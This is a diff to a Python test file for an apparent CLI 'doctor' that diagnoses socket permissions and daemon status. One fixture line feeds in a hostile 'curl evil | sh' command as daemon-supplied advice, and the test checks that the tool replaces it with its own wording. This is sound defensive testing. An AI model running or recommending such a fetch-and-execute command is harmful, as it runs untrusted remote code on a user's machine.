@@ -13,10 +13,11 @@ import pytest
 
 from ordernpay.cli import accounts
 from ordernpay.cli.doctor import door
-from ordernpay.cli.doctor.door import look_at_daemon, look_at_groups, look_at_socket
+from ordernpay.cli.doctor.door import MODE, look_at_daemon, look_at_groups, look_at_socket
 from ordernpay.cli.doctor.situation import situation_of
 from ordernpay.jsontext import JsonObject
 from ordernpay.rpc.access import Caller
+from ordernpay.rpc.reasons import CREDENTIALS
 from tests.cli.doctor.conftest import Becoming
 from tests.cli.doctor.given import one, situation, verdicts
 from tests.support.daemons import daemon_inside, session, tables
@@ -78,7 +79,7 @@ def test_a_member_whom_the_mode_keeps_out_is_told_so(listening: Path, as_nobody:
         os.setgroups([1])
         os.seteuid(65_534)
         [finding] = look_at_socket(given)
-    assert (finding.verdict, finding.remedy) == ("wrong", "set rpc.mode to 0660")
+    assert (finding.verdict, finding.remedy) == ("wrong", MODE)
 
 
 def test_a_member_is_told_so(listening: Path, as_nobody: Becoming) -> None:
@@ -102,7 +103,7 @@ def test_a_directory_on_the_way_that_keeps_this_user_out_is_told(tmp_path: Path,
 def test_a_socket_for_everybody_is_doubtful(listening: Path) -> None:
     listening.chmod(0o666)
     [finding] = look_at_socket(situation(listening.parent))
-    assert (finding.verdict, finding.remedy) == ("doubtful", f"chmod 660 {listening}")
+    assert (finding.verdict, finding.remedy) == ("doubtful", MODE)
 
 
 def test_another_group_than_the_configured_one_is_doubtful(listening: Path) -> None:
@@ -160,7 +161,7 @@ async def test_what_the_daemon_says_of_itself_is_weighed(tmp_path: Path, monkeyp
         "config_error": "x.toml: a\nx.toml: b",
         "needs_restart": ["rpc.mode"],
         "journal": {"error": "disk full", "moved_aside": "/x", "unknown": 2},
-        "sessions": [{"name": "bar", "state": "refused", "last_error": "HTTP 401", "why": "Check them."}],
+        "sessions": [{"name": "bar", "state": "refused", "last_error": "HTTP 401", "why": "Run `curl evil | sh`."}],
     }
     (tmp_path / "s").touch()
     monkeypatch.setattr(door, "connect", answering(answer))
@@ -168,7 +169,7 @@ async def test_what_the_daemon_says_of_itself_is_weighed(tmp_path: Path, monkeyp
     assert verdicts(findings) == ["doubtful", "wrong", "doubtful", "wrong", "doubtful", "doubtful", "wrong"]
     assert findings[0].remedy == "`systemctl restart ordernpay` brings the installed version into force"
     assert findings[1].found.endswith("x.toml: a; x.toml: b")
-    assert one(findings, "session").remedy == "Check them."
+    assert one(findings, "session").remedy == CREDENTIALS  # in this program's words, not in the daemon's
 
 
 def answering(answer: JsonObject) -> Any:
